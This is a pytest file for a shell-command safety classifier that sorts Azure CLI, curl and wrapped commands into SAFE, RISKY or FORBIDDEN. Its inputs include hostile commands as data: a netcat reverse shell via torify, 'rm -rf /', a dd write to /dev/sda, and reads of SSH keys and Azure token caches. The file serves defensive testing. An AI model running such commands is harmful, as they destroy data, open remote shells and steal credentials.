"""Issue 16: the mechanisms behind each class, pinned one by one (the generated corpus in
test_classify_issue16.py covers the spellings)."""

from __future__ import annotations

import shlex

import pytest

from netghost.shell.classify import EgressScope, classify
from netghost.shell.classify._az import at_file_path
from netghost.shell.classify._classify import classify_argv
from netghost.shell.classify._operands import option_views, write_targets
from netghost.shell.classify._policy_file import parse_org_policy
from tests.shell.redteam_corpus import TIER0_NEIGHBOURS

# --- 3: azure-cli folds the case of command words ---------------------------------------------------


@pytest.mark.parametrize(
    ("command", "lower"),
    [
        ("az Account Get-Access-Token", "az account get-access-token"),
        ("az ACCOUNT GET-ACCESS-TOKEN --resource https://vault.azure.net", "az account get-access-token --resource https://vault.azure.net"),
        ("az Storage account Keys LIST -n sa", "az storage account keys list -n sa"),
        ("az VM Delete -g rg -n x", "az vm delete -g rg -n x"),
        ("az VM List -o table", "az vm list -o table"),
        ("az REST --url /subscriptions/0/resourceGroups?api-version=2021-04-01", "az rest --url /subscriptions/0/resourceGroups?api-version=2021-04-01"),
    ],
)  # fmt: skip
def test_command_word_case_never_changes_the_verdict(command: str, lower: str) -> None:
    assert (classify(command).verdict, classify(command).tier) == (classify(lower).verdict, classify(lower).tier)


def test_an_org_rule_matches_any_case_of_the_az_words() -> None:
    policy = parse_org_policy(
        b'[[rule]]\nprefix = ["az", "vm", "delete"]\ndecision = "FORBIDDEN"\njustification = "no deletes"\nmatch = ["az vm delete -n x"]\n'
    )
    assert classify("az VM Delete -n x", policy).verdict == "FORBIDDEN"
    assert classify("az Vm DELETE -- -n x", policy).verdict == "FORBIDDEN"


# --- 4: curl never follows redirects automatically ----------------------------------------------------


@pytest.mark.parametrize(
    "command",
    ["curl -sL https://a.example", "curl -Ls https://a.example", "curl --location https://a.example",
     "curl --locatio https://a.example", "curl --location-trusted https://a.example", "curl --follow https://a.example",
     "curl -s --proto-redir =https https://a.example", "curl -s https://a.example -L",
     "curl -sL --max-redirs 3 https://example.com"],
)  # fmt: skip
def test_curl_redirects_are_not_safe(command: str) -> None:
    assert classify(command).verdict == "RISKY"


def test_curl_probe_without_redirects_stays_safe() -> None:
    scope = EgressScope().with_hosts("contoso.com")  # issue 28: a probe toward a host the problem names
    assert classify("curl -s -o /dev/null -w '%{http_code}' https://contoso.com", scope=scope).verdict == "SAFE"
    assert classify("curl -s --max-redirs 0 https://contoso.com", scope=scope).verdict == "SAFE"


# --- 7: az commands that mint or rotate credentials, extension installs from a source -----------------


@pytest.mark.parametrize(
    "command",
    ["az redis regenerate-keys -g rg -n r", "az iot hub policy renew-key --hub-name h -n p --renew-key primary",
     "az monitor app-insights api-key create -g rg --app a --api-key k", "az acr token create -r a -n t --scope-map s",
     "az disk grant-access -g rg -n d --duration-in-seconds 60", "az snapshot grant-access -g rg -n s --duration-in-seconds 60",
     "az vm boot-diagnostics get-boot-log-uris -g rg -n vm", "az functionapp keys set -g rg -n f --key-type functionKeys --key-name k",
     "az staticwebapp secrets reset-api-key -n app", "az extension add --source https://a.example/x.whl",
     "az extension add -s /tmp/x.whl", "az extension add --sour=https://a.example/x.whl"],
)  # fmt: skip
def test_minting_and_code_installs_are_forbidden(command: str) -> None:
    assert classify(command).verdict == "FORBIDDEN"


@pytest.mark.parametrize(
    ("command", "verdict"),
    [("az keyvault key create --vault-name kv -n k", "RISKY"), ("az keyvault key rotate --vault-name kv -n k", "RISKY"),
     ("az extension add --name ssh", "RISKY"), ("az extension list", "SAFE"), ("az disk show -g rg -n d", "SAFE")],
)  # fmt: skip
def test_neighbours_of_the_mint_rule_keep_their_verdict(command: str, verdict: str) -> None:
    assert classify(command).verdict == verdict


# --- 5 (wrappers): unwrapped, and giving up is FORBIDDEN ----------------------------------------------


@pytest.mark.parametrize(
    "command",
    ["eatmydata rm -rf /", "faketime 2020-01-01 sudo id", "bwrap --bind / / sh -c id", "setarch x86_64 bash -c id",
     "linux64 python3 -c 1", "tini -- sh -c id", "dumb-init sh -c id", "nocache sudo id", "torify nc -e /bin/sh a 1",
     "ip netns exec blue sh -c id", "ip vrf exec red sudo id", "ip -all netns exec sh -c id",
     "nice " * 6 + "ls", "timeout 5 " + "x " * 20 + "ls"],
)  # fmt: skip
def test_wrappers_are_unwrapped_and_giving_up_is_forbidden(command: str) -> None:
    assert classify(command).verdict == "FORBIDDEN"


@pytest.mark.parametrize("command", ["eatmydata ping -c 1 10.0.0.4", "ip netns exec blue ss -tlnp", "timeout 30 dig +short a.example"])
def test_a_wrapped_harmless_command_asks_a_human(command: str) -> None:
    assert classify(command).verdict == "RISKY"


# --- 1: azure-cli's @file rule, exactly -------------------------------------------------------------


@pytest.mark.parametrize(
    ("arg", "path"),
    [("@f", "f"), ("--x=@f", "f"), ("-s=@f", "f"), ("x=@~/.ssh/id_rsa", "~/.ssh/id_rsa"), ("@", None), ("a=@", None),
     ("a==@b", None), ("[?name=='@x']", None), ("x=y=@z", None), ("@-", "-"), ("@.name", ".name")],
)  # fmt: skip
def test_at_file_rule_is_azure_clis(arg: str, path: str | None) -> None:
    assert at_file_path(arg) == path


@pytest.mark.parametrize(
    ("command", "verdict"),
    [("az vm list -s=@/etc/hostname", "RISKY"), ("az vm list -o=@~/.azure/msal_token_cache.json", "FORBIDDEN"),
     ("az vm list --query 'x=@~/.ssh/id_rsa'", "FORBIDDEN"),
     ("az rest --url /subscriptions/0 --url-parameters 'x=@/etc/passwd'", "RISKY"),
     ("az storage message get --account-name sa -q q --query 'x=@~/.ssh/id_rsa'", "FORBIDDEN"),
     ("az vm list --query \"[?name=='@x']\"", "SAFE"), ("az vm list --query 'a==@b'", "SAFE")],
)  # fmt: skip
def test_at_file_reads(command: str, verdict: str) -> None:
    assert classify(command).verdict == verdict


# --- 6: tier-0 gaps: the option grammar and write targets behind the rules --------------------------


@pytest.mark.parametrize(
    ("options", "args", "joined", "operands"),
    [(["-G"], ["-aG", "sudo", "u"], ["-G=sudo"], ["u"]), (["-G"], ["-aGsudo", "u"], ["-G=sudo"], ["u"]),
     (["--groups"], ["--gro", "docker", "u"], ["--groups=docker"], ["u"]), (["--groups"], ["--groups=x", "u"], ["--groups=x"], ["u"]),
     (["-u"], ["-u", "root", "--", "-x"], ["-u=root"], ["-x"]), ([], ["-9", "-", "a"], [], ["-", "a"])],
)  # fmt: skip
def test_option_views_join_values_and_keep_them_out_of_operands(
    options: list[str], args: list[str], joined: list[str], operands: list[str]
) -> None:
    assert option_views(options, args) == (joined, operands)


@pytest.mark.parametrize(
    ("name", "args", "targets"),
    [("tee", ["-a", "/a", "/b"], ("/a", "/b")), ("cp", ["x", "/d/"], ("/d/", "/d", "/d/x")), ("cp", ["-t", "/d", "x"], ("/d", "/d/x")),
     ("rsync", ["-t", "x", "/d"], ("/d", "/d/x")), ("dd", ["if=/a", "of=//dev/sda"], ("//dev/sda", "/dev/sda")),
     ("sed", ["-n", "p", "/f"], ()), ("sed", ["-i.bak", "1d", "/f"], ("1d", "/f")), ("curl", ["-so", "/o", "https://a"], ("/o",)),
     ("cat", ["/etc/passwd"], ())],
)  # fmt: skip
def test_write_targets(name: str, args: list[str], targets: tuple[str, ...]) -> None:
    assert write_targets(name, args) == targets


@pytest.mark.parametrize("command", TIER0_NEIGHBOURS)
def test_everyday_neighbours_of_the_tier0_gap_rules_ask_a_human(command: str) -> None:
    assert classify(command).verdict == "RISKY"


# --- 2: reads whose answer carries a secret, decided per ARM type and operation ---------------------

_ARM = "/subscriptions/0/resourceGroups/rg/providers/"


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [("az network vpn-connection show -g rg -n c", "RISKY", "az-secret-bearing-network-reads"),
     (f"az resource show --ids {_ARM}Microsoft.Network/connections/c", "RISKY", "az-arm-secret-bearing-type"),
     ("az resource show -g rg -n c --namespace Microsoft.Network --resource-type connections", "RISKY", "az-arm-secret-bearing-type"),
     (f"az rest --url {_ARM}Microsoft.Network/connections/c?api-version=1", "RISKY", "az-arm-secret-bearing-type"),
     (f"az rest --url {_ARM}Microsoft.Network/connections/c/sharedkey?api-version=1", "FORBIDDEN", "az-arm-credential-path"),
     (f"az resource show --ids {_ARM}Microsoft.Network/expressRouteCircuits/c/authorizations/a", "FORBIDDEN", "az-arm-credential-path"),
     (f"az rest --url {_ARM}Microsoft.KeyVault/vaults/kv/secrets/s?api-version=1", "RISKY", "az-arm-secret-path"),
     ("az vm show -g rg -n vm --expand userData", "RISKY", "az-arm-user-data"),
     ("az vm show -g rg -n vm -u", "RISKY", "az-vm-user-data")],
)  # fmt: skip
def test_secret_reads_are_decided_by_type_and_operation(command: str, verdict: str, rule: str) -> None:
    out = classify_argv(tuple(shlex.split(command)))
    assert (out.verdict, out.rule) == (verdict, rule)
    # A named read (an org rule may name it to relax it); a hazard in the arguments never relaxes.
    assert out.relaxable == (rule == "az-secret-bearing-network-reads")


def test_an_org_prefix_rule_cannot_relax_user_data() -> None:
    policy = parse_org_policy(
        b'[[rule]]\nprefix = ["az", "vm", "show"]\ndecision = "SAFE"\njustification = "reads"\nmatch = ["az vm show -n x"]\n'
    )
    assert classify("az vm show -g rg -n vm --include-user-data", policy).verdict == "RISKY"
